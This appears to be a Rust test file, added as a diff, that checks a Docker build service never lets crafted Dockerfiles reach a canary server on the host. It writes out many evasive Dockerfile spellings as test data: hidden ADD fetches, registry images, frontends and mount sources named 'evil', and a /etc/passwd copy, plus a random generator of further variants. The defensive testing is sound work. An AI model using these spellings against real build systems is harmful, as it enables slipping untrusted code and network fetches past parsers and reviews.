@@ -1,0 +1,327 @@
+//! What an engine reads is what was checked: spellings that two parsers read in two ways, and a server on the host's
+//! loopback that no build may reach.
+
+use crate::canary::{Canary, SECRET};
+use crate::engine::{BASE, Engine, docker, server, with};
+use crate::http::Server;
+use serde_json::{Value, json};
+use stageplay_tests::skipped;
+
+const BUILDERS: [&str; 2] = ["classic", "buildkit"];
+
+/// Builds with both builders; nothing of it reaches the host. What came of each.
+fn reaches_nothing(server: &Server, canary: &Canary, what: &str, build: &Value) -> Vec<Value> {
+    BUILDERS
+        .iter()
+        .map(|builder| {
+            let answer = server.post(&with(build.clone(), json!({"builder": builder, "no_cache": true, "run": true})));
+            let status = match answer.status {
+                202 => {
+                    let id = answer.json()["id"].as_str().expect("an id").to_string();
+                    let events = server.events(&id, 0);
+                    assert!(!format!("{events:?}").contains(SECRET), "{what} ({builder}): it was fetched");
+                    server.get(&format!("/api/builds/{id}")).json()
+                }
+                422 => json!({"state": "refused", "problem": answer.json()}),
+                other => panic!("{what} ({builder}): {other} {}", answer.body),
+            };
+            assert_eq!(canary.count(), 0, "{what} ({builder}): {status}");
+            status
+        })
+        .collect()
+}
+
+/// Dockerfiles that made an engine fetch from the host when it read the text itself.
+fn spellings(address: &str) -> Vec<(&'static str, String)> {
+    let url = format!("http://{address}/a");
+    let escaped = format!("http\\u003a//{address}/a");
+    vec![
+        ("words behind an array", format!("FROM {BASE}\nADD [\"{escaped}\",\"/x\"] z\nRUN cat /x\n")),
+        (
+            "an array in a trigger",
+            format!("FROM {BASE} AS a\nONBUILD ADD [\"{escaped}\",\"/x\"] z\nFROM a\nRUN cat /x\n"),
+        ),
+        ("a here-document", format!("FROM {BASE}\nRUN cat <<true\nADD {url} /x\nRUN cat /x; \\\ntrue\n")),
+        (
+            "a directive behind another blank",
+            format!("#\u{a0}escape=`\nFROM {BASE}\nRUN echo a `\nADD {url} /x\nRUN cat /x\n"),
+        ),
+        ("two carriage returns", format!("FROM {BASE}\nRUN echo a # \\\r\r\nADD {url} /x\nRUN cat /x\n")),
+        ("a lone carriage return", format!("FROM {BASE}\nRUN echo a\rADD {url} /x\n")),
+        ("an old Mac's lines", format!("FROM {BASE}\rADD {url} /x\r")),
+        ("a vertical tab", format!("FROM {BASE}\nRUN echo \\\u{b}\nADD {url} /x\n")),
+        ("a variable", format!("FROM {BASE}\nARG U={url}\nADD $U /x\n")),
+        ("a default", format!("FROM {BASE}\nADD ${{U:-{url}}} /x\n")),
+        ("quotes", format!("FROM {BASE}\nADD h\"tt\"p://{address}/a /x\n")),
+        ("surrogates", format!("FROM {BASE}\nADD [\"\\ud83dhttp://{address}/a\", \"/x\"]\n")),
+        ("capitals", format!("FROM {BASE}\nADD HTTP://{address}/a /x\n")),
+        ("a repository", format!("FROM {BASE}\nADD http://{address}/a.git#main /x\n")),
+        ("a base image of a registry", format!("FROM {address}/evil:1\n")),
+        ("a source of a registry", format!("FROM {BASE}\nCOPY --from={address}/evil:1 / /\n")),
+        ("a mount FROM", format!("FROM {BASE}\nRUN --mount=type=bind,FROM={address}/evil:1,target=/m ls /m\n")),
+        ("a mount From", format!("FROM {BASE}\nRUN --mount=type=bind,From={address}/evil:1,target=/m ls /m\n")),
+        (
+            "a mount in escaped quotes",
+            format!("FROM {BASE}\nRUN --mount=type=bind,\\\"from={address}/evil:1\\\",target=/m ls /m\n"),
+        ),
+        (
+            "a mount in two quotes",
+            format!("FROM {BASE}\nRUN --mount='type=bind,\"from={address}/evil:1\",target=/m' ls /m\n"),
+        ),
+        ("a cache", format!("FROM {BASE}\nRUN --mount=type=cache,FROM={address}/evil:1,target=/m ls /m\n")),
+        (
+            "a second from",
+            format!(
+                "FROM {BASE} AS a\nFROM {BASE}\nRUN --mount=type=bind,from=a,FROM={address}/evil:1,target=/m ls /m\n"
+            ),
+        ),
+        ("a stage that names itself", format!("FROM {BASE} AS evil\nCOPY --from=evil /etc/passwd /x\n")),
+        ("a frontend", format!("# syntax={address}/evil:1\nFROM {BASE}\n")),
+        ("a frontend behind another blank", format!("#\u{a0}syntax={address}/evil:1\nFROM {BASE}\n")),
+        ("a frontend of JSON", format!("{{\"syntax\": \"{address}/evil:1\"}}\n")),
+        ("a byte order mark", format!("\u{feff}# syntax={address}/evil:1\nFROM {BASE}\n")),
+    ]
+}
+
+#[test]
+fn no_spelling_makes_an_engine_fetch() {
+    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
+    let (server, canary) = (server("server-readings", &[]), Canary::start());
+    for (what, dockerfile) in spellings(&canary.address) {
+        reaches_nothing(&server, &canary, what, &json!({ "dockerfile": dockerfile }));
+    }
+    // The arguments that a builder defines by itself.
+    let evil = format!("{}/evil:1", canary.address);
+    for name in ["HTTP_PROXY", "http_proxy", "NO_PROXY", "TARGETOS", "BUILDKIT_SYNTAX", "BUILDKIT_CACHE_MOUNT_NS"] {
+        let build = json!({
+            "dockerfile": format!("FROM ${{{name}:-{BASE}}}\nRUN true\n"), "build_args": {name: evil},
+        });
+        reaches_nothing(&server, &canary, name, &build);
+    }
+    // An image that is here for another platform.
+    let named = format!("{}/plat:1", canary.address);
+    docker(&["tag", BASE, &named]);
+    for build in [
+        json!({ "dockerfile": format!("FROM --platform=linux/arm64 {named}\nRUN true\n") }),
+        json!({ "dockerfile": format!("FROM {named}\nRUN true\n"), "platform": "linux/arm64" }),
+        json!({ "dockerfile": format!("FROM scratch\nCOPY --from={named} /etc /etc\n"), "platform": "linux/arm64" }),
+    ] {
+        for status in reaches_nothing(&server, &canary, "a platform", &build) {
+            assert_eq!(status["problem"]["code"], "image-not-here", "{status}");
+        }
+    }
+    let here = json!({ "dockerfile": format!("FROM {named}\nRUN true\n") });
+    for status in reaches_nothing(&server, &canary, "the right platform", &here) {
+        assert_eq!(status["state"], "succeeded", "{status}");
+    }
+    docker(&["rmi", &named]);
+}
+
+#[test]
+fn no_file_of_the_context_becomes_the_dockerfile() {
+    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
+    let (server, canary) = (server("server-second", &[]), Canary::start());
+    let evil = format!("FROM {BASE}\nADD http://{}/a /x\nRUN cat /x\n", canary.address);
+    let dockerfile = format!("FROM {BASE}\nCOPY . /all/\nRUN find /all | sort\n");
+    for target in [".", "/", "..", "other", "../.."] {
+        let files = json!([
+            {"path": "other/x", "text": "x"},
+            {"path": "d", "link": target},
+            {"path": "d/Dockerfile", "text": evil},
+        ]);
+        for status in reaches_nothing(&server, &canary, target, &json!({"dockerfile": dockerfile, "files": files})) {
+            assert_eq!(status["problem"]["code"], "bad-name", "{status}");
+        }
+    }
+    // As a tar; also behind a hard link to the link.
+    for second in [(tar::EntryType::Regular, "d/Dockerfile"), (tar::EntryType::Link, "h")] {
+        let mut out = tar::Builder::new(Vec::new());
+        let mut add = |kind, name: &str, link: &str, text: &str| {
+            let mut header = tar::Header::new_gnu();
+            header.set_entry_type(kind);
+            header.set_mode(0o755);
+            header.set_size(text.len() as u64);
+            if !link.is_empty() {
+                header.set_link_name(link).expect("a target");
+            }
+            out.append_data(&mut header, name, text.as_bytes()).expect("an entry");
+        };
+        add(tar::EntryType::Regular, "Dockerfile", "", &dockerfile);
+        add(tar::EntryType::Symlink, "d", ".", "");
+        match second {
+            (tar::EntryType::Link, name) => {
+                add(tar::EntryType::Link, name, "d", "");
+                add(tar::EntryType::Regular, "h/Dockerfile", "", &evil);
+            }
+            (kind, name) => add(kind, name, "", &evil),
+        }
+        let body = out.into_inner().expect("a tar");
+        let answer = server.ask("POST", "/api/builds", &[("Content-Type", "application/x-tar")], &body);
+        assert_eq!((answer.status, &answer.json()["code"]), (422, &json!("bad-name")));
+    }
+    // What is in the context stays what it was: the Dockerfile of the person, and nothing of ours.
+    let files = json!([{"path": "a/b", "text": "x"}, {"path": "l", "link": "a"}]);
+    for status in reaches_nothing(&server, &canary, "files", &json!({"dockerfile": dockerfile, "files": files})) {
+        let step = status["report"]["steps"].as_array().unwrap().iter().find(|step| step["line"] == 2).unwrap().clone();
+        let paths: Vec<&str> =
+            step["layer"]["entries"].as_array().unwrap().iter().filter_map(|entry| entry["path"].as_str()).collect();
+        assert_eq!(paths, ["/all", "/all/Dockerfile", "/all/a", "/all/a/b", "/all/l"], "{status}");
+        assert!(!status.to_string().contains(".stageplay-context"), "{status}");
+    }
+}
+
+/// Settings in all the ways in which people write them; what the engine makes of them is what the simulation says.
+const SETTINGS: &str = r#"# escape=`
+ARG VERSION="1 2"
+FROM BASE AS First
+ARG VERSION
+ARG OTHER=it's
+ENV A=1 B="two words" C='$A' D=a`$b E=$A-${B}-${NONE:-none} F="q`"q" G=back\slash
+ENV OLD form with $A  and "quotes" `
+   and a second line
+ENV LATER=$OTHER V=${VERSION%2}x
+LABEL plain=x "with blank"="y z" multi="one `
+ two"
+WORKDIR /srv/$A
+WORKDIR "sub dir"
+USER 1000:${A}
+EXPOSE 8000-8001/tcp $A 53/udp
+VOLUME ["/data", "/with blank"]
+STOPSIGNAL SIGINT
+HEALTHCHECK --interval=1m30s --retries=2 CMD test "$A" = 1 || exit 1
+SHELL ["/bin/sh", "-ec"]
+MAINTAINER Some One <one@example.org>
+ONBUILD RUN echo "later $A"
+ENTRYPOINT exec echo "$A `
+  $B"
+CMD ["a b", "$A", "日本\u00e9\n", "\\", "\"", "<<EOF"]
+"#;
+
+/// Of a configuration, what the Dockerfile decides.
+fn settings(report: &Value) -> Value {
+    let mut config = report["image"]["config"].clone();
+    if let Some(fields) = config.as_object_mut() {
+        // Docker writes null or nothing for what is empty.
+        fields.retain(|_, value| !value.is_null() && *value != json!({}) && *value != json!([]) && *value != json!(""));
+    }
+    config
+}
+
+#[test]
+fn what_the_engine_made_of_the_settings_is_what_was_written() {
+    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
+    let server = server("server-settings", &[]);
+    let dockerfile = SETTINGS.replace("BASE", BASE);
+    for builder in BUILDERS {
+        let build = json!({ "dockerfile": dockerfile, "builder": builder, "build_args": {"OTHER": "$A \"b\" \\c"} });
+        let (_, status) = server.build(&build);
+        assert_eq!(status["state"], "succeeded", "{builder}: {status}");
+        let config = settings(&status["report"]);
+        let env: Vec<&str> = config["Env"].as_array().unwrap().iter().filter_map(Value::as_str).skip(1).collect();
+        let expected = [
+            "A=1",
+            "B=two words",
+            "C=$A",
+            "D=a$b",
+            "E=1-two words-none",
+            "F=q\"q",
+            "G=back\\slash",
+            "OLD=form with 1  and quotes    and a second line",
+            "LATER=$A \"b\" \\c",
+            "V=1 x",
+        ];
+        assert_eq!(env, expected, "{builder}");
+        assert_eq!(config["Labels"], json!({"plain": "x", "with blank": "y z", "multi": "one  two"}), "{builder}");
+        assert_eq!(config["WorkingDir"], "/srv/1/sub dir", "{builder}");
+        assert_eq!(config["User"], "1000:1", "{builder}");
+        assert_eq!(config["ExposedPorts"], json!({"1/tcp": {}, "53/udp": {}, "8000/tcp": {}, "8001/tcp": {}}));
+        assert_eq!(config["Volumes"], json!({"/data": {}, "/with blank": {}}), "{builder}");
+        assert_eq!(config["Healthcheck"]["Test"], json!(["CMD-SHELL", "test \"$A\" = 1 || exit 1"]), "{builder}");
+        assert_eq!(config["Entrypoint"], json!(["/bin/sh", "-ec", "exec echo \"$A   $B\""]), "{builder}");
+        assert_eq!(config["Cmd"], json!(["a b", "$A", "日本é\n", "\\", "\"", "<<EOF"]), "{builder}");
+        assert_eq!(config["OnBuild"], json!(["RUN echo \"later $A\""]), "{builder}");
+        assert_eq!(config["Shell"], json!(["/bin/sh", "-ec"]), "{builder}");
+    }
+}
+
+/// A generator of odd spellings: small pieces put together at random, each of which hides a fetch or separates lines in
+/// a way of its own.
+mod random {
+    /// A xorshift generator: the same seed gives the same texts.
+    pub(super) struct Random(pub(super) u64);
+
+    impl Random {
+        pub(super) fn below(&mut self, bound: usize) -> usize {
+            self.0 ^= self.0 << 13;
+            self.0 ^= self.0 >> 7;
+            self.0 ^= self.0 << 17;
+            usize::try_from(self.0 % bound as u64).unwrap_or(0)
+        }
+
+        fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
+            from[self.below(from.len())]
+        }
+    }
+
+    const ENDS: [&str; 9] = ["\n", "\r\n", "\r\r\n", "\r", "\u{b}\n", "\u{85}", "\u{2028}", "\n\n", " \\\n"];
+    const BLANKS: [&str; 8] = [" ", "\t", "\u{a0}", "\u{b}", "  ", "\u{2003}", "\\\n", "\u{feff}"];
+    const DIRECTIVES: [&str; 8] = [
+        "",
+        "# escape=`\n",
+        "#\u{a0}escape=`\n",
+        "# Escape = `\n",
+        "#!x\n",
+        "# check=skip=all\n",
+        "#escape=\\\n",
+        "\u{feff}",
+    ];
+    const CONTINUED: [&str; 7] = ["\\", "`", "\\ ", "\\\\", "`\r", "\\\r", ""];
+
+    /// A Dockerfile on a base image; `fetch` is an address that must not be reached.
+    pub(super) fn dockerfile(random: &mut Random, base: &str, fetch: &str) -> String {
+        let mut text = random.pick(&DIRECTIVES).to_string();
+        text.push_str(&format!("FROM{}{base}\n", random.pick(&BLANKS[..2])));
+        for _ in 0..1 + random.below(4) {
+            let add = format!("ADD{}http://{fetch}/a /x", random.pick(&BLANKS));
+            let array =
+                format!("ADD [\"http\\u003a//{fetch}/a\",\"/x\"]{}", random.pick(&["", " z", "]", "\u{b}", ","]));
+            let mount = format!(
+                "RUN --mount=type=bind,{}{fetch}/e:1{},target=/m true",
+                random.pick(&["FROM=", "from=", "\"from=", "From=", "'from="]),
+                random.pick(&["", "\"", "'"])
+            );
+            let line = match random.below(9) {
+                0 => format!("RUN echo a {}{}{add}", random.pick(&CONTINUED), random.pick(&ENDS)),
+                1 => format!(
+                    "RUN cat <<{}\n{add}\n{}",
+                    random.pick(&["X", "-X", "'X'", "\"X"]),
+                    random.pick(&["X", "", "X \\"])
+                ),
+                2 => array,
+                3 => format!("ONBUILD {array}"),
+                4 => mount,
+                5 => format!("# comment {}{}{add}", random.pick(&CONTINUED), random.pick(&ENDS)),
+                6 => format!("ENV A=\"x{}{}{add}\"", random.pick(&CONTINUED), random.pick(&ENDS)),
+                7 => format!("HEALTHCHECK CMD x {}{}{add}", random.pick(&CONTINUED), random.pick(&ENDS)),
+                _ => format!("LABEL a=b{}{add}", random.pick(&ENDS)),
+            };
+            text.push_str(&line);
+            text.push_str(random.pick(&ENDS[..3]));
+        }
+        text
+    }
+}
+
+#[test]
+fn no_spelling_that_nobody_thought_of_makes_an_engine_fetch() {
+    let Some(_engine) = Engine::find() else { return skipped("no Docker engine") };
+    let (server, canary) = (server("server-random-readings", &[]), Canary::start());
+    let seed = std::env::var("STAGEPLAY_SEED").ok().and_then(|seed| seed.parse().ok()).unwrap_or(22);
+    let count = std::env::var("STAGEPLAY_COUNT").ok().and_then(|count| count.parse().ok()).unwrap_or(60);
+    let mut random = random::Random(seed);
+    for index in 0..count {
+        let dockerfile = random::dockerfile(&mut random, BASE, &canary.address);
+        let what = format!("number {index} of seed {seed}: {dockerfile:?}");
+        reaches_nothing(&server, &canary, &what, &json!({ "dockerfile": dockerfile }));
+    }
+}
